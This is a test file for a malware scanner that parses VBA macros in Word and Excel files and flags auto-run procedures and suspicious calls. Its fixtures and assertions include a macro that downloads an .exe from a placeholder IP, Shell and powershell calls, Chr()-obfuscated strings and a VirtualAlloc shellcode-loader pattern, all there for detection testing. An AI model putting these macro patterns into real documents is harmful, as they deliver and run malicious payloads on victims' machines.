import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  AUTOOPEN_SOURCE,
  compressOvba,
  dirStream,
  macroDoc,
  macroXls,
  vbaProjectBin,
} from '../../../../../test/support/weapons/office.ts';
import { readCfb } from './cfb.ts';
import { parseDir, readVbaProjects, vbaFindings } from './vba.ts';
import { scanSource } from './vba-scan.ts';

test('parses module names, stream names and offsets from a dir stream', () => {
  const info = parseDir(
    dirStream(
      [
        { name: 'ThisDocument', source: '', cacheBytes: 1234 },
        { name: 'Módulo1', source: '', cacheBytes: 0 },
      ],
      ['ThisDocument', 'Mdl1Stream'],
    ),
  );
  assert.equal(info.codePage, 1252);
  assert.deepEqual(info.modules, [
    { name: 'ThisDocument', stream: 'ThisDocument', offset: 1234 },
    { name: 'Módulo1', stream: 'Mdl1Stream', offset: 0 },
  ]);
  assert.equal(info.complete, true);
  assert.equal(parseDir(dirStream([{ name: 'A', source: '' }]).subarray(0, 38)).complete, false);
  assert.throws(
    () => parseDir(dirStream([{ name: 'A', source: '' }]).subarray(0, 46)),
    /runs past/,
  );
});

test('reads the Word 97 Macros/VBA project and decodes module source past its cache', () => {
  const projects = readVbaProjects(readCfb(macroDoc()));
  assert.equal(projects.length, 1);
  assert.equal(projects[0]?.storage, 'Macros/VBA');
  assert.equal(projects[0]?.problem, '');
  assert.deepEqual(
    projects[0]?.modules.map((m) => m.name),
    ['NewMacros'],
  );
  assert.equal(projects[0]?.modules[0]?.source, AUTOOPEN_SOURCE);
});

test('reads the Excel _VBA_PROJECT_CUR project and the root VBA of a vbaProject.bin', () => {
  const xls = readVbaProjects(readCfb(macroXls()));
  assert.equal(xls[0]?.storage, '_VBA_PROJECT_CUR/VBA');
  assert.deepEqual(
    xls[0]?.modules.map((m) => m.name),
    ['ThisWorkbook', 'Module1'],
  );
  assert.match(
    xls[0]?.modules[0]?.source ?? '',
    /URLDownloadToFile 0, "http:\/\/198\.51\.100\.7\/a\.exe"/,
  );
  const bin = readVbaProjects(readCfb(vbaProjectBin()));
  assert.equal(bin[0]?.storage, 'VBA');
  assert.equal(bin[0]?.modules[0]?.source, AUTOOPEN_SOURCE);
});

test('findings name the modules, the auto-run procedure and the suspicious calls', () => {
  const findings = vbaFindings(readVbaProjects(readCfb(macroDoc())));
  assert.deepEqual(
    findings.map((f) => [f.code, f.kind]),
    [
      ['vba-macro', 'weaponized'],
      ['vba-autoexec', 'weaponized'],
      ['vba-suspicious', 'weaponized'],
    ],
  );
  assert.match(findings[0]?.reason ?? '', /Macros\/VBA: NewMacros/);
  assert.match(findings[1]?.reason ?? '', /AutoOpen \(NewMacros\)/);
  assert.match(findings[2]?.reason ?? '', /Shell/);
  assert.match(findings[2]?.reason ?? '', /powershell/);
  const xls = vbaFindings(readVbaProjects(readCfb(macroXls())));
  assert.match(
    xls.find((f) => f.code === 'vba-autoexec')?.reason ?? '',
    /Workbook_Open \(ThisWorkbook\)/,
  );
  assert.match(
    xls.find((f) => f.code === 'vba-suspicious')?.reason ?? '',
    /URLDownloadToFile.*WScript\.Shell|WScript\.Shell.*URLDownloadToFile/,
  );
});

test('a benign module is a macro but neither auto-run nor suspicious', () => {
  const doc = macroDoc([
    {
      name: 'Helpers',
      source:
        'Attribute VB_Name = "Helpers"\r\nFunction Twice(x)\r\n  Twice = x * 2\r\nEnd Function\r\n',
    },
  ]);
  assert.deepEqual(
    vbaFindings(readVbaProjects(readCfb(doc))).map((f) => f.code),
    ['vba-macro'],
  );
});

test('with a corrupt dir stream the module source is still found by scanning the streams', () => {
  const doc = macroDoc();
  const ole = readCfb(doc);
  const dir = ole.entries.find((e) => e.path === 'Macros/VBA/dir');
  assert.ok(dir);
  dir.content.fill(0x77); // no longer a compressed container
  const projects = readVbaProjects(ole);
  assert.match(projects[0]?.problem ?? '', /dir stream unreadable/);
  assert.equal(projects[0]?.modules[0]?.source, AUTOOPEN_SOURCE);
  const codes = vbaFindings(projects).map((f) => f.code);
  assert.deepEqual(codes, ['vba-macro', 'vba-autoexec', 'vba-suspicious', 'malformed-vba']);
});

test('a dir stream pointing at a wrong offset still yields vba-macro', () => {
  const ole = readCfb(
    macroDoc([
      {
        name: 'M',
        source: 'Attribute VB_Name = "M"\r\nSub Document_Open()\r\nEnd Sub\r\n',
        cacheBytes: 10,
      },
    ]),
  );
  const stream = ole.entries.find((e) => e.path === 'Macros/VBA/M');
  assert.ok(stream);
  stream.content.fill(0, 0, 20); // destroy the container header too
  const findings = vbaFindings(readVbaProjects(ole));
  assert.equal(findings[0]?.code, 'vba-macro');
  assert.match(findings[0]?.reason ?? '', /no module source readable/);
  assert.ok(findings.some((f) => f.code === 'malformed-vba' && /module\(s\) M/.test(f.reason)));
});

test('source scan: obfuscation, API declarations and ActiveX auto-run events', () => {
  const chr =
    Array.from('powershe', (c) => `Chr(${c.charCodeAt(0)})`).join(' & ') + ' & Chr(108) & Chr(108)';
  const scan = scanSource(
    `Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr) As LongPtr\r\n` +
      `Private Sub InkPicture1_Painted(ByVal h As Long)\r\n x = ${chr}\r\n CallByName o, "Run", VbMethod\r\nEnd Sub\r\n`,
  );
  assert.deepEqual(scan.autoexec, ['InkPicture1_Painted']);
  assert.deepEqual(scan.suspicious, [
    'CallByName',
    'Win32 API',
    'shellcode loader',
    'Chr() obfuscation',
  ]);
  assert.deepEqual(scanSource('Sub Format()\r\n  MsgBox "Shellfish are tasty"\r\nEnd Sub'), {
    autoexec: [],
    suspicious: [],
  });
});

test('compressed dir sanity: compressOvba output is what readProject decompresses', () => {
  assert.equal(compressOvba(new Uint8Array([1, 2, 3]))[0], 1);
});
